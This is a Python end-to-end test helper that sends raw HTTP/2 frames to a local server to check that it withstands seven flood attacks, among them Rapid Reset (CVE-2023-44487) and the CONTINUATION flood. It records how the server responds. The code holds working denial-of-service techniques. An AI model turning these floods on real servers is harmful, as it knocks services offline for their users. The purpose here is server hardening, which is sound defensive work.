"""HTTP/2 floods for the end-to-end tests: raw frames written with
hyperframe and hpack (the frame and header codecs of the Python `h2`
project) on a cleartext (prior knowledge) connection, without an HTTP/2
state machine that would refuse to misbehave.

Reads a JSON spec on stdin: {"port": PORT, "attack": NAME, "count": N}.
Attacks:
  rapid_reset   HEADERS then RST_STREAM, N streams (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then N CONTINUATIONs
                (the 2024 CONTINUATION flood)
  ping          N PINGs, never reading the PONGs
  settings      N SETTINGS frames, never reading the ACKs
  window        WINDOW_UPDATEs that push the connection window past 2^31-1
  streams       N concurrent streams left open (past the stream limit)
  zero_window   initial window 0, then N requests whose responses cannot be
                sent (the server must hold them without growing)
Writes {"sent": frames sent, "goaway": error code or null, "resets":
{code: count} of RST_STREAMs received, "closed": whether the server
closed the connection, "seconds": time taken}.
"""

import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Connection:
    def __init__(self, port: int):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.buffer = b""
        self.goaway = None
        self.resets = {}
        self.closed = False
        self.sent = 0

    def send(self, frame: Frame) -> bool:
        try:
            self.sock.sendall(frame.serialize())
            self.sent += 1
            return True
        except OSError:
            self.closed = True
            return False

    def headers(self, stream_id: int, path: str = "/flood", end_stream: bool = True, end_headers: bool = True) -> HeadersFrame:
        block = self.encoder.encode(
            [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", path)]
        )
        flags = []
        if end_stream:
            flags.append("END_STREAM")
        if end_headers:
            flags.append("END_HEADERS")
        return HeadersFrame(stream_id, data=block, flags=flags)

    def start(self, settings=None):
        self.sock.sendall(PREFACE)
        self.send(SettingsFrame(0, settings=settings or {}))

    def read_frames(self, seconds: float):
        """Reads frames for up to `seconds`, or until the server closes."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
                self.buffer = self.buffer[9 + length :]
                if isinstance(frame, GoAwayFrame):
                    self.goaway = frame.error_code
                elif isinstance(frame, RstStreamFrame):
                    code = str(frame.error_code)
                    self.resets[code] = self.resets.get(code, 0) + 1


def attack(spec: dict) -> dict:
    conn = Connection(spec["port"])
    count = spec["count"]
    started = time.monotonic()
    name = spec["attack"]
    if name == "zero_window":
        conn.start({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    else:
        conn.start()
    if name == "rapid_reset":
        for i in range(count):
            stream_id = 1 + 2 * i
            if not (conn.send(conn.headers(stream_id)) and conn.send(RstStreamFrame(stream_id, error_code=8))):
                break
    elif name == "continuation":
        conn.send(conn.headers(1, end_headers=False))
        fragment = conn.encoder.encode([("x-flood", "a" * 100)])
        for _ in range(count):
            if not conn.send(ContinuationFrame(1, data=fragment)):
                break
    elif name == "ping":
        for i in range(count):
            if not conn.send(PingFrame(0, opaque_data=i.to_bytes(8, "big"))):
                break
    elif name == "settings":
        for _ in range(count):
            if not conn.send(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})):
                break
    elif name == "window":
        # In one write: the server reads them all before it answers, so
        # closing leaves nothing unread (which would turn its FIN, and the
        # GOAWAY before it, into a reset).
        frames = b"".join(
            WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() for _ in range(count)
        )
        try:
            conn.sock.sendall(frames)
            conn.sent += count
        except OSError:
            conn.closed = True
    elif name in ("streams", "zero_window"):
        for i in range(count):
            if not conn.send(conn.headers(1 + 2 * i, path="/big")):
                break
    else:
        raise SystemExit(f"unknown attack {name}")
    conn.read_frames(3.0)
    result = {
        "sent": conn.sent,
        "goaway": conn.goaway,
        "resets": conn.resets,
        "closed": conn.closed,
        "seconds": round(time.monotonic() - started, 3),
    }
    conn.sock.close()
    return result


if __name__ == "__main__":
    json.dump(attack(json.load(sys.stdin)), sys.stdout)
